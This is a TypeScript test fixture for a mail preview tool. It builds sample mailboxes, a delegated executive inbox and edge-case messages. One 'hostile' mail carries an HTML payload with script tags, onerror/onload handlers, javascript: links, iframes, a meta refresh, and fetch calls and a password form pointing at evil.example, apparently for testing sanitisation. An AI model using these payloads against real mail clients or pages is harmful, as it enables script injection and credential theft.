import type { Message } from "@microsoft/microsoft-graph-types";
import type { MailboxState } from "../../../src/preview/tenant/mailbox-state";
import type { Tenant } from "../../../src/preview/tenant/tenant";

/** The moment at which the page's tests stand still. */
export const testNow = new Date("2026-11-23T08:14:00Z");

/** A message with everything a mail from outside has; `minutesOld` counts back from `testNow`. */
export function aMail(minutesOld: number, changes: Message = {}): Message {
  const at = new Date(testNow.getTime() - minutesOld * 60_000).toISOString();
  return {
    subject: "Kaffe på fredag",
    bodyPreview: "Hej, ska vi ses?",
    from: { emailAddress: { name: "Karin Ekström", address: "karin.ekstrom@hamnen.example" } },
    toRecipients: [{ emailAddress: { name: "Maria Nyström", address: "maria@lindhaga.example" } }],
    ccRecipients: [],
    receivedDateTime: at,
    sentDateTime: at,
    createdDateTime: at,
    isRead: true,
    isDraft: false,
    importance: "normal",
    categories: [],
    flag: { flagStatus: "notFlagged" },
    hasAttachments: false,
    conversationId: `conversation-${minutesOld}`,
    body: { contentType: "text", content: "Hej,\n\nska vi ses på fredag?\n\n/Karin" },
    ...changes,
  };
}

/** HTML that tries everything at once: scripts, handlers, remote pictures, styles, forms, frames, a way out. */
export const hostileHtml = `<html><head><style>@import url("https://evil.example/a.css");
  body{background:url(https://evil.example/style.png)}</style><meta http-equiv="refresh" content="0;url=https://evil.example/meta"></head>
  <body onload="parent.postMessage('onload','*')"><p id="hello">Hello from the hostile mail</p>
  <script>document.title="owned";fetch("https://evil.example/script")</script>
  <img src="https://evil.example/pixel.png" onerror="parent.document.title='owned'">
  <img src="x" onerror="fetch('https://evil.example/onerror')"><svg onload="alert(1)"><script>alert(2)</script></svg>
  <div style="background-image:url('//evil.example/inline.png')">styled</div>
  <table background="https://evil.example/table.png"><tr><td>cell</td></tr></table>
  <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
  <form action="https://evil.example/form"><input name="password"><button>Send</button></form>
  <video poster="https://evil.example/poster.png" src="https://evil.example/video"></video>
  <a href="javascript:alert(3)">a trap</a> <a href="https://evil.example/link">a link</a>
  <img srcset="https://evil.example/set.png 2x"><link rel="stylesheet" href="https://evil.example/link.css"></body></html>`;

/** Lays out an assistant with `count` letters and some odd ones on top, and one executive whose mailbox she may use. */
export function layOutMail(count: number): (tenant: Tenant) => string {
  return (tenant) => {
    const maria = addPerson(tenant, "maria", "Maria Nyström");
    const anna = addPerson(tenant, "anna", "Anna Lindqvist");
    anna.delegates.set("maria", { folders: { "*": "readWrite" }, sendOnBehalf: true });
    tenant.signedInUserId = "maria";
    maria.addMasterCategory({ displayName: "Beslut", color: "preset0" });
    for (let number = count; number > 0; number--) {
      const changes = { subject: `Brev ${number}`, isRead: number % 3 !== 0 };
      maria.addMessage("inbox", aMail(number * 60 + 240, changes));
    }
    maria.addMessage("inbox", oddMails.hostile);
    maria.addMessage("inbox", oddMails.crowd);
    maria.addMessage("inbox", oddMails.huge);
    maria.addMessage("inbox", oddMails.bare);
    maria.addMessage("inbox", oddMails.lease, {
      attachments: [{ id: "a1", name: "Hyresavtal_v3.docx", size: 48_213, isInline: false }],
    });
    anna.addMessage("inbox", aMail(33, { subject: "Endast till Anna", isRead: false }));
    return "Sample week 48";
  };
}

const crowd = Array.from({ length: 10_000 }, (_, index) => ({
  emailAddress: { name: `Person ${index}`, address: `p${index}@crowd.example` },
}));

const oddMails = {
  lease: aMail(33, {
    subject: "Hyresavtal Västra hamnen – behöver ditt beslut senast fredag",
    bodyPreview: "Hyresvärden har skickat version 3 av avtalet för lokalerna",
    isRead: false,
    categories: ["Beslut"],
    flag: { flagStatus: "flagged" },
    importance: "high",
    body: {
      contentType: "html",
      content: "<p>Hej Maria,</p><p>Hyresvärden har skickat <b>version 3</b> av avtalet.</p>",
    },
  }),
  bare: aMail(120, {
    subject: "",
    bodyPreview: "",
    from: null,
    toRecipients: [],
    body: { contentType: "text", content: "" },
  }),
  huge: aMail(180, {
    subject: "Fifty megabytes",
    body: { contentType: "html", content: `<p>${"lorem ipsum ".repeat(4_400_000)}</p>` },
  }),
  crowd: aMail(200, { subject: "To everybody", toRecipients: crowd }),
  hostile: aMail(220, {
    subject: "You have won",
    body: { contentType: "html", content: hostileHtml },
  }),
};

function addPerson(tenant: Tenant, id: string, displayName: string): MailboxState {
  const mail = `${id}@lindhaga.example`;
  return tenant.addUser({ id, displayName, mail, userPrincipalName: mail });
}
